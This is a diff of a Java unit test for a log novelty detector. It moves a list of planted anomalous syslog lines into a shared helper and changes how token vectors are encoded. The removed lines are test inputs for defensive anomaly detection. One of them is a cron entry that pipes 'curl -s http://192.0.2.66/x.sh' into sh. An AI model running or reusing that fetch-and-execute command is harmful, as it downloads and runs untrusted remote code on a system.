@@ -15,6 +15,7 @@ import io.ltm.testutils.NoveltyTestLogs;
 import io.ltm.topology.api.LtmConfig;
 import io.ltm.topology.api.MemoryTopology;
 import io.ltm.topology.codec.MemoryStateCodec;
+import io.ltm.topology.codec.WireVectors;
 import io.ltm.topology.internal.Names;
 import io.ltm.topology.internal.Novelty;
 import java.io.IOException;
@@ -46,28 +47,7 @@ import org.junit.jupiter.api.io.TempDir;
  */
 class NoveltyTest {
 
-    /** Lines of a kind no package log has: kernel out-of-memory and disk errors. */
-    static final List<String> PLANTED = List.of(
-            "kernel: Out of memory: Killed process 31337 (java) total-vm:8123456kB, anon-rss:7340032kB",
-            "kernel: oom_reaper: reaped process 31337 (java), now anon-rss:0kB, file-rss:0kB",
-            "kernel: EXT4-fs error (device sda1): ext4_find_entry:1455: inode #2: comm ls: reading directory lblock 0",
-            "kernel: Buffer I/O error on dev sda1, logical block 0, lost async page write",
-            "sshd[4242]: Failed password for invalid user admin from 203.0.113.7 port 52211 ssh2",
-            "sshd[4243]: Failed password for root from 203.0.113.7 port 52213 ssh2",
-            "kernel: CPU3: Core temperature above threshold, cpu clock throttled (total events = 1)",
-            "kernel: mce: [Hardware Error]: Machine check events logged",
-            "smartd[812]: Device: /dev/sda [SAT], 8 Currently unreadable (pending) sectors",
-            "kernel: nvme nvme0: I/O 17 QID 3 timeout, aborting",
-            "systemd[1]: postgresql.service: Main process exited, code=killed, status=9/KILL",
-            "kernel: TCP: request_sock_TCP: Possible SYN flooding on port 443. Sending cookies.",
-            "sshd[4250]: Accepted publickey for root from 198.51.100.23 port 40022 ssh2",
-            "sudo: mallory : user NOT in sudoers ; TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash",
-            "kernel: usb 2-1: new high-speed USB device number 9 using xhci_hcd",
-            "kernel: Firewall: *INVALID* IN=eth0 OUT= SRC=192.0.2.66 DST=10.0.0.5 PROTO=TCP DPT=22",
-            "crond[991]: (root) CMD (curl -s http://192.0.2.66/x.sh | sh)",
-            "kernel: watchdog: BUG: soft lockup - CPU#1 stuck for 23s! [kworker/1:2:1888]",
-            "systemd-logind[620]: Power key pressed short, shutting down",
-            "kernel: audit: type=1400 apparmor=\"DENIED\" operation=\"open\" profile=\"nginx\" name=\"/etc/shadow\"");
+    static final List<String> PLANTED = NoveltyTestLogs.PLANTED;
 
     @TempDir
     Path stateDir;
@@ -183,8 +163,7 @@ class NoveltyTest {
             values.add(ser.serialize(
                     "ltm.tokens",
                     EncodedTokens.newBuilder()
-                            .setVectors(MemoryStateCodec.block(
-                                    e.vectors(), e.count(), encoder.dimension(), CoefficientPrecision.FLOAT16))
+                            .setVectors(WireVectors.tokens(e.vectors(), e.count(), encoder.dimension()))
                             .setTokens(e.tokens())
                             .setText(lines.get(i))
                             .setSource(SourcePosition.newBuilder()
